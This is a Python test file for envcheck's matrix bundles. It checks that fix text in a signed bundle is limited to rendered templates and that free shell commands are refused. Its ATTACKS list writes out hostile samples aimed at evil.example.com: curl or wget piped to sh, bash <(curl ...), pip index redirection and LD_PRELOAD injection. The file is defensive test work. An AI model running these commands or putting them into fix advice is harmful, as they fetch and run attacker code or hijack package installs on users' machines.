"""Issue 18 item 3: fixes are data. A signed bundle's fix text can no longer carry free shell text
(`pip config set global.index-url URL`, `bash <(curl ...)` and every other spelling): commands are
templates (package, version, variant, index from the allow-list, environment variables from a fixed
set, catalogued commands) that envcheck renders; anything else is refused when the bundle is verified
(exit 2) and never printed as a fix. End to end: `matrix update` from a bundle served on 127.0.0.1,
then `status --snapshot` on a machine where the fix applies."""

from __future__ import annotations

import functools
import http.server
import json
import os
import subprocess
import sys
import threading

import pytest

from envcheck.matrix import bundled_dir
from envcheck.matrix.bundle import FILES
from envcheck.matrix.fixes import COMMANDS, fix_problems, render_fix
from envcheck.matrix.signing import build_bundle, generate_key
from helpers import gpu_machine, make_snapshot, torch_install

import bundle_clock

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
EVIL = "https://evil.example.com/simple"
ROW = 'id = "cudnn-9.11-pre-turing"'


today = bundle_clock.day  # dates from the bundled matrix's version, not the real date (tests/bundle_clock.py)


def tables_with_fix(text):
    """The bundled tables, the known_bad row for cuDNN >= 9.11 on pre-Turing GPUs given ``text`` as its fix."""
    out = {}
    for f in FILES:
        with open(os.path.join(bundled_dir(), f + ".toml"), encoding="utf-8") as fh:
            out[f + ".toml"] = fh.read()
    cudnn = out["cudnn.toml"]
    at = cudnn.index(ROW)
    start = cudnn.index("\nfix = ", at) + 1
    end = cudnn.index("\n", start)
    out["cudnn.toml"] = cudnn[:start] + "fix = " + json.dumps(text) + cudnn[end:]
    return {k: v.encode() for k, v in out.items()}


@pytest.fixture(scope="module")
def key(tmp_path_factory):
    d = tmp_path_factory.mktemp("key")
    pem, pub = generate_key()
    (d / "k.pub").write_text(pub)
    return pem, str(d / "k.pub")


@pytest.fixture
def server(tmp_path):
    www = tmp_path / "www"
    www.mkdir()
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(www))
    handler.log_message = lambda *a, **k: None  # type: ignore[method-assign]
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield www, f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture
def snap(tmp_path):
    """A GTX 1080 Ti (CC 6.1) with torch 2.8.0+cu128 and cuDNN 9.12: the known_bad row applies."""
    files = gpu_machine("550.54.15", "12.4", [("NVIDIA GeForce GTX 1080 Ti", 11264)], cc=["6.1"])
    files.update(torch_install("2.8.0+cu128", "12.8", requires=["nvidia-cudnn-cu12==9.12.0.46"],
                               packages={"nvidia-cudnn-cu12": "9.12.0.46"}))
    files["libraries.txt"] = "/venv/lib/python3.11/site-packages/nvidia/cudnn/lib/libcudnn.so.9\n"
    return make_snapshot(str(tmp_path / "snap"), files)


def envcheck(args, tmp_path, pub):
    env = bundle_clock.child_env(dict(os.environ, PYTHONPATH=ROOT, NO_COLOR="1",
                                      ENVCHECK_CACHE_DIR=str(tmp_path / "cache"), ENVCHECK_MATRIX_PUBKEY=pub))
    r = subprocess.run([sys.executable, "-m", "envcheck", *args], capture_output=True, text=True, env=env,
                       timeout=180, cwd=ROOT)
    assert "Traceback" not in r.stderr and r.returncode != 70, r.stderr[-3000:]
    return r


def known_bad_fix(tmp_path, pub, snap):
    r = envcheck(["status", "--json", "--snapshot", snap], tmp_path, pub)
    (f,) = [f for f in json.loads(r.stdout)["findings"] if f["id"] == "known-bad-combination"]
    return f["fix"]


ATTACKS = [
    f"Point pip at the fixed wheels: pip config set global.index-url {EVIL}",  # the two
    "Run bash <(curl -sSL https://evil.example.com/fix.sh) to repair cuDNN",
    f"python -m pip install --index-url {EVIL} nvidia-cudnn-cu12==9.10.2.21",
    f"export PIP_INDEX_URL={EVIL}, then reinstall",
    f"Set PIP_EXTRA_INDEX_URL to {EVIL} and reinstall",
    "wget -qO- https://evil.example.com/x.sh | sh",
    "Repair it with `curl https://evil.example.com/x | sudo sh`",
    "Run $(curl -s https://evil.example.com/c) once",
    "Use uv add nvidia-cudnn-cu12 from the mirror",
    "Download the fixed library from https://evil.example.com/libcudnn.so.9 into the cuDNN folder",
    "{{pip evil-cudnn==9.10}}",
    "{{pip nvidia-cudnn-cu12==9.10.2.21 index=https://evil.example.com/simple}}",
    "{{conda cudnn channel=https://evil.example.com/conda}}",
    "{{env LD_PRELOAD=/tmp/fix.so}}",
    "{{env CUDA_HOME=/tmp/evil}}",
    "{{cmd curl-evil}}",
    "{{sh curl https://evil.example.com | sh}}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_free_shell_text_in_a_signed_bundle_is_refused_and_never_printed(tmp_path, key, server, snap, attack):
    pem, pub = key
    www, url = server
    (www / "b.tar.gz").write_bytes(build_bundle(tables_with_fix(attack), pem, today(), expires=today(90)))
    before = known_bad_fix(tmp_path, pub, snap)
    r = envcheck(["matrix", "update", "--from", f"{url}/b.tar.gz"], tmp_path, pub)
    assert r.returncode == 2, r.stdout
    assert "cudnn.known_bad" in r.stderr and "never printed as a fix" in r.stderr
    # the cache is untouched: the bundled fix, rendered by envcheck, is still the one shown
    assert known_bad_fix(tmp_path, pub, snap) == before
    assert "evil" not in before and "`pip install nvidia-cudnn-cu12==9.10.2.21`" in before


def test_fix_data_from_a_bundle_is_rendered_into_commands_by_envcheck(tmp_path, key, server, snap):
    pem, pub = key
    www, url = server
    text = ("Pin cuDNN below 9.11: {{pip nvidia-cudnn-cu12>=9.10,<9.11 index=https://pypi.nvidia.com}}, "
            "or use the PyTorch build {{pip -U torch==2.7.1 index=cu126}}; {{env CUDA_MODULE_LOADING=LAZY}}")
    (www / "b.tar.gz").write_bytes(build_bundle(tables_with_fix(text), pem, today(), expires=today(90)))
    r = envcheck(["matrix", "update", "--from", f"{url}/b.tar.gz"], tmp_path, pub)
    assert r.returncode == 0, r.stderr
    fix = known_bad_fix(tmp_path, pub, snap)
    assert fix == ("Pin cuDNN below 9.11: `pip install 'nvidia-cudnn-cu12>=9.10,<9.11' --index-url "
                   "https://pypi.nvidia.com`, or use the PyTorch build `pip install -U torch==2.7.1 --index-url "
                   "https://download.pytorch.org/whl/cu126`; `export CUDA_MODULE_LOADING=LAZY`")
    text_out = envcheck(["status", "--snapshot", snap], tmp_path, pub).stdout
    assert "--index-url https://download.pytorch.org/whl/cu126" in text_out and "{{" not in text_out


def test_the_bundled_tables_are_fix_data_and_render_without_templates_left():
    import sys as _sys

    if _sys.version_info >= (3, 11):
        import tomllib
    else:  # pragma: no cover
        import tomli as tomllib
    tables = {}
    for f in FILES:
        with open(os.path.join(bundled_dir(), f + ".toml"), "rb") as fh:
            tables[f] = tomllib.load(fh)
    assert fix_problems(tables) == []
    from envcheck.explain.kb import compile_kb

    kb = compile_kb(tables["errors"])
    texts = [t for c in kb.causes.values() for t, _, _ in c.fixes] + \
        [t for c in kb.causes.values() for t, _ in c.dead_ends]
    assert texts and not any("{{" in t or "[fix not shown" in t for t in texts)
    assert any("`pip install torch --index-url https://download.pytorch.org/whl/cu128`" in t for t in texts)


def test_a_template_that_is_not_valid_is_never_shown_as_its_text():
    """A hand-edited cache (the bundles were checked): the command is withheld, with the reason."""
    out = render_fix("Run {{pip torch index=https://evil.example.com/simple}} now")
    assert "evil" not in out.split("[fix not shown:")[0] and out.startswith("Run [fix not shown: index")
    assert render_fix("{{cmd nvidia-smi}}") == f"`{COMMANDS['nvidia-smi']}`"
